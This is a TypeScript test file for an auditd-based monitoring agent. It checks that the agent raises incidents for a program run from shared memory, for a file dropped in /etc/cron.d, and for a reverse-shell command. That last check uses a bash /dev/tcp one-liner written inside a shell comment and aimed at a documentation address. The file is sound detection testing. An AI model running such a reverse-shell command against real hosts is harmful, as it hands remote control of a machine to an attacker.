import { copyFileSync, mkdirSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Incident } from '../../agent/domain/report.ts'
import { type RunningAgent, startAgent } from '../support/agent.ts'
import { auditdMissing, type Lab, shippedRules, startAuditd } from '../support/auditd.ts'

const unavailable = auditdMissing('rule-incidents.test.ts: left out')

describe.skipIf(unavailable !== undefined)('rules of a live agent', () => {
  const directory = '/var/lib/fullmon-test-rule-incidents'
  const state = join(directory, 'state')
  const program = '/dev/shm/fullmon-test-rule-incidents'
  const stop: (() => Promise<unknown>)[] = []
  let lab: Lab
  let agent: RunningAgent

  const raised = (rule: string): Incident[] =>
    agent.reports.flatMap((report) => (report.kind === 'incident' && report.rule === rule ? [report] : []))

  beforeAll(async () => {
    rmSync(directory, { recursive: true, force: true })
    mkdirSync(state, { recursive: true, mode: 0o700 })
    copyFileSync('/usr/bin/true', program)
    lab = await startAuditd({
      logFormat: 'ENRICHED',
      rules: shippedRules(state),
    })
    stop.push(() => lab.stop())
    const db = join(state, 'baseline.db')
    // No window ends while this runs.
    const words = `run --auditd ${lab.logFile} --db ${db} --baseline 0 --monitor 3600 --wait 0.1 --json`
    agent = startAgent(words.split(' '))
    stop.unshift(() => agent.end('SIGTERM'))
    await agent.waitFor('monitoring', () => agent.stderr().includes('monitoring'))
  })

  afterAll(async () => {
    for (const each of stop) await each()
    rmSync(directory, { recursive: true, force: true })
    rmSync(program, { force: true })
  })

  test('tell at once of a program in shared memory, with who ran it and with which words', async () => {
    await lab.run([program, 'one', 'two'])
    await agent.waitFor('the incident', () => raised('exec-from-temporary').length > 0)
    const [incident] = raised('exec-from-temporary')
    expect(incident).toMatchObject({ severity: 'high', count: 1 })
    expect(incident?.chain.at(-1)).toBe(`proc::root:${program}`)
    expect(incident?.edges[0]?.evidence).toMatchObject({ auid: 4242, argv: [program, 'one', 'two'] })
    expect(incident?.reasons[1]).toMatch(
      /^done by process \d+, child of \d+; it goes back to a login of .*uid 4242$/,
    )
    expect(incident?.next).toContain(`ls -l ${program}`)
  })

  test('tell of a crontab that somebody drops, and of what says how to get a shell', async () => {
    // So that the test itself is not taken for the one command that does both.
    await sleep(2000)
    await lab.run(['/bin/sh', '-c', `: # bash -i >& /dev/tcp/192.0.2.1/9 0>&1`])
    await lab.run(['/bin/sh', '-c', 'touch /etc/cron.d/fullmon-test && rm /etc/cron.d/fullmon-test'])
    await agent.waitFor('the shell', () => raised('reverse-shell-command').length > 0)
    await agent.waitFor('the crontab', () => raised('persistence-cron').length > 0)
    expect(raised('persistence-cron')[0]?.title).toBe(
      'touch (root) changed scheduled work: /etc/cron.d/fullmon-test',
    )
  })
})
